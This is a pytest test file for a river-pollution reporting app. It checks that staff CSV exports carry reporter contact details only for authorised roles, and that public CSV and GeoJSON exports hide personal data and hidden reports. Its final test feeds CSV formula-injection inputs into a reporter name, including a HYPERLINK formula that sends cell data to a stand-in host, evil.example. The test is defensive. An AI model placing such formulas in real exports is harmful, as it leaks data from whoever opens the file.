"""Exports on both backends: the staff CSV's columns, times and contact details and who may have it;
the public CSV and GeoJSON carry no personal data, no tracking code and no hidden report."""
import csv
import io
import json
from datetime import datetime, timedelta, timezone
from types import SimpleNamespace

import pytest

from db import places_queries
from db.engine import session_scope
from db.models import Report
from qingxi.core import places
from qingxi.core.permissions import Denied
from qingxi.reports import downloads

NOW = datetime(2025, 6, 15, 4, 0, 7, tzinfo=timezone.utc)


def _user(role: str, unit_id: int | None = None):
    return SimpleNamespace(role=role, unit_id=unit_id, disabled=False)


@pytest.fixture
def world(engine):
    """A fixed report with every milestone, an open one with no village, and a hidden one."""
    with session_scope(engine) as s:
        places.install_reference(s)
        village_id = sorted(places_queries.village_ids(s).values())[0]
        village = next(v.name for v in places_queries.villages(s) if v.id == village_id)
        common = {"lon": 121.40, "lat": 29.15, "location_source": "map", "bank": "left"}
        fixed = Report(code="FX2345", category="sewage", state="fixed", priority="urgent", village_id=village_id,
                       river_km=4.25, created_at=NOW - timedelta(days=3), signed_at=NOW - timedelta(days=2),
                       dispatched_at=NOW - timedelta(days=2, hours=-1), fixed_at=NOW - timedelta(days=1),
                       closed_at=NOW - timedelta(days=1), supporters=4, reporter_name="张秀兰",
                       reporter_phone="13912345678", description="张家后门的排污口又在排", visibility="public",
                       **common)
        open_ = Report(code="OP6789", category="bank_litter", state="submitted", created_at=NOW,
                       reporter_name="李建国", reporter_phone="13700001111", description="桥下一堆塑料袋",
                       **{**common, "lon": 121.41})
        hidden = Report(code="HD4567", category="other", state="submitted", created_at=NOW, hidden=True,
                        reporter_name="赵隐藏", reporter_phone="13600002222", description="骂人的话",
                        **{**common, "lon": 121.3777, "lat": 29.1333})
        s.add_all([fixed, open_, hidden])
        s.flush()
        ids = {"fixed": fixed.id, "open": open_.id, "hidden": hidden.id}
    return engine, ids, village


PRIVATE_VALUES = ("FX2345", "OP6789", "HD4567", "张秀兰", "李建国", "赵隐藏", "13912345678", "13700001111",
                  "13600002222", "张家后门的排污口又在排", "桥下一堆塑料袋", "骂人的话")


def _rows(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_staff_csv_has_every_report_with_times_and_contact_details(world):
    engine, ids, village = world
    rows = _rows(downloads.reports_csv(engine, _user("staff")))
    assert list(rows[0]) == [h for h, _ in downloads.STAFF_COLUMNS]
    assert "code" not in rows[0]  # the reporter's key to act on the report: no staff file holds it
    for needed in ("category", "state", "state_kind", "priority", "village", "river_km", "lon", "lat",
                   "created", "acknowledged", "dispatched", "fixed", "closed", "supporters",
                   "reporter_name", "reporter_phone"):
        assert needed in rows[0]
    by_id = {int(r["id"]): r for r in rows}
    assert set(by_id) == set(ids.values())  # staff see hidden reports too, flagged
    fixed = by_id[ids["fixed"]]
    assert fixed["category"] == "sewage" and fixed["category_name"] == "排污口排水"
    assert (fixed["state"], fixed["state_kind"], fixed["priority"]) == ("fixed", "fixed", "urgent")
    assert fixed["village"] == village and float(fixed["river_km"]) == 4.25 and fixed["supporters"] == "4"
    assert fixed["created"] == "2025-06-12T04:00:07Z"
    assert fixed["acknowledged"] == "2025-06-13T04:00:07Z"
    assert fixed["dispatched"] == "2025-06-13T05:00:07Z"
    assert fixed["fixed"] == fixed["closed"] == "2025-06-14T04:00:07Z"
    assert (fixed["reporter_name"], fixed["reporter_phone"]) == ("张秀兰", "13912345678")
    opened = by_id[ids["open"]]
    assert opened["village"] == "" and opened["acknowledged"] == opened["closed"] == ""
    assert opened["state_kind"] == "open" and opened["hidden"] == "false"
    assert by_id[ids["hidden"]]["hidden"] == "true"


def test_admin_may_export_too(world):
    engine, ids, _ = world
    assert len(_rows(downloads.reports_csv(engine, _user("admin")))) == 3


@pytest.mark.parametrize("user", [None, _user("public"), _user("deputy"), _user("handler", 1),
                                  SimpleNamespace(role="staff", unit_id=None, disabled=True)])
def test_staff_csv_is_refused_to_everyone_else(world, user):
    engine, *_ = world
    with pytest.raises(Denied):
        downloads.reports_csv(engine, user)


def test_public_csv_has_no_personal_data_no_code_and_no_hidden_report(world):
    engine, ids, village = world
    data = downloads.public_csv(engine)
    text = data.decode("utf-8-sig")
    for value in PRIVATE_VALUES:
        assert value not in text
    rows = _rows(data)
    assert list(rows[0]) == [h for h, _ in downloads.PUBLIC_COLUMNS]
    assert not {"code", "reporter_name", "reporter_phone", "description"} & set(rows[0])
    assert {int(r["id"]) for r in rows} == {ids["fixed"], ids["open"]}
    fixed = next(r for r in rows if int(r["id"]) == ids["fixed"])
    assert fixed["created"] == "2025-06-12T04:00:07Z" and fixed["village"] == village


def test_public_geojson_has_no_personal_data_no_code_and_no_hidden_report(world):
    engine, ids, _ = world
    data = downloads.public_geojson(engine, "en")
    text = data.decode()
    for value in PRIVATE_VALUES:
        assert value not in text
    doc = json.loads(data)
    assert doc["type"] == "FeatureCollection"
    by_id = {f["id"]: f for f in doc["features"]}
    assert set(by_id) == {ids["fixed"], ids["open"]}
    fixed = by_id[ids["fixed"]]
    assert fixed["geometry"] == {"type": "Point", "coordinates": [121.40, 29.15]}
    props = fixed["properties"]
    assert props["category_name"] == "Sewage discharge" and props["state_kind"] == "fixed"
    assert props["acknowledged"] == "2025-06-13T04:00:07Z" and props["supporters"] == 4
    assert by_id[ids["open"]]["properties"]["fixed"] is None


def test_open311_queries_on_this_backend(world):
    """The Open311 SQL (filters, hidden reports) on both backends; the HTTP side is in tests/web."""
    from qingxi.reports import open311

    engine, ids, village = world
    with session_scope(engine) as s:
        every = open311.requests(s, open311.parse({}, NOW + timedelta(hours=1)))
        closed = open311.requests(s, open311.parse({"status": "closed", "start_date": "2025-06-01"}, NOW))
        picked = open311.requests(s, open311.parse({"service_request_id": f"{ids['hidden']},{ids['open']}"}, NOW))
        with pytest.raises(open311.Open311Error):
            open311.request(s, str(ids["hidden"]))
    assert [r["service_request_id"] for r in every] == [str(ids["open"]), str(ids["fixed"])]
    assert [r["service_request_id"] for r in closed] == [str(ids["fixed"])]
    assert closed[0]["address"].startswith(village) and closed[0]["updated_datetime"].endswith("Z")
    assert [r["service_request_id"] for r in picked] == [str(ids["open"])]
    text = json.dumps(every, ensure_ascii=False)
    assert not [v for v in PRIVATE_VALUES if v in text]


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+2", "-2+3", "@SUM(A1)",
                                   "\t=1+1", "\r=1+1"])
def test_what_a_reporter_typed_never_becomes_a_formula_in_the_staff_csv(world, typed):
    engine, ids, _ = world
    with session_scope(engine) as s:
        s.get(Report, ids["open"]).reporter_name = typed
    (row,) = [r for r in _rows(downloads.reports_csv(engine, _user("staff"))) if int(r["id"]) == ids["open"]]
    assert row["reporter_name"] == "'" + typed
